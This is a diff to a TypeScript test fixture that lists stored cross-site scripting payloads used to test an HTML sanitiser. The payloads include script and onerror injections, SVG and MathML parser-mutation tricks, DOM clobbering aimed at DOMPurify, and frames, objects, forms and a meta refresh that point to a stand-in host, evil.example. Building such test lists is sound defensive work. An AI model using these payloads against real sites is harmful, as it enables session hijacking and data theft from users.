@@ -1,8 +1,13 @@
-// Bodies that somebody stores to run a script in the browser of whoever reads them, or to make it call another host. Each calls `canary` in the
-// page when it runs; `https://evil.example` is the other host. Collected by what they abuse, after OWASP's and the sanitiser's own lists.
+// Bodies that somebody stores to run a script in the browser of whoever reads them, or to make it call another host.
+// Each calls `canary` in the page when it runs; `https://evil.example` is the other host. Collected by what they abuse,
+// after OWASP's and the sanitiser's own lists.
 
 const run = 'canary()';
 const evil = 'https://evil.example';
+const image = `<img src=x onerror=${run}>`;
+const drawing = Buffer.from(
+  `<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${run}"/></svg>`,
+).toString('base64');
 
 export const payloads: Readonly<Record<string, string>> = {
   'a script': `<script>${run}</script>`,
@@ -20,8 +25,8 @@ export const payloads: Readonly<Record<string, string>> = {
   'a script inside a drawing': `<svg><script>${run}</script></svg>`,
   'a drawing with an encoded script': `<svg><script>&#99;anary()</script></svg>`,
   'an animation that begins': `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
-  'an animated link': `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>click</text></a></svg>`,
-  'a drawing that uses another one': `<svg><use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${run}"/></svg>`).toString('base64')}#x"></use></svg>`,
+  'a moving link': `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>click</text></a></svg>`,
+  'a drawing that uses another one': `<svg><use href="data:image/svg+xml;base64,${drawing}#x"></use></svg>`,
   'a foreign object': `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
   'a link in Markdown': `[click](javascript:${run})`,
   'a link in Markdown, encoded': `[click](&#106;avascript:${run})`,
@@ -54,7 +59,8 @@ export const payloads: Readonly<Record<string, string>> = {
   'a frame with a document': `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
   'a frame with a script': `<iframe src="javascript:parent.${run}"></iframe>`,
   'a frame of another host': `<iframe src="${evil}"></iframe>`,
-  'an object': `<object data="data:text/html,<script>parent.${run}</script>"></object><object data="${evil}/x.swf"></object>`,
+  'an object': `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
+  'an object of another host': `<object data="${evil}/x.swf"></object>`,
   'an embedded file': `<embed src="javascript:${run}"><embed src="${evil}/x.swf">`,
   'a form': `<form action="javascript:${run}"><button>x</button></form><form id=f action="${evil}"></form>`,
   'a button of its own action': `<form><button formaction="javascript:${run}">x</button></form>`,
@@ -62,12 +68,14 @@ export const payloads: Readonly<Record<string, string>> = {
   'a refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
   'a refresh to a script': `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
   'a template': `<template><img src=x onerror=${run}></template>`,
-  'a clobbered document': `<form id=body name=body><input name=attributes><input name=nodeName></form><img name=currentScript><a id=part></a><a id=DOMPurify>x</a>`,
-  'clobbered parents': `<form id=message><input name=parentNode><input name=innerHTML><img src=x onerror=${run}></form>`,
+  'a clobbered document':
+    '<form id=body name=body><input name=attributes><input name=nodeName></form>' +
+    '<img name=currentScript><a id=part></a><a id=DOMPurify>x</a>',
+  'parents': `<form id=message><input name=parentNode><input name=innerHTML><img src=x onerror=${run}></form>`,
   'mutation: a listing in a drawing': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
-  'mutation: a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  'a formula': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   'mutation: a formula in a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-  'mutation: an annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
+  'mutation: annotation': `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
   'mutation: no script': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   'mutation: a comment': `<!--><img src=x onerror=${run}>-->`,
   'mutation: a broken comment': `<!-- --!><img src=x onerror=${run}> -->`,
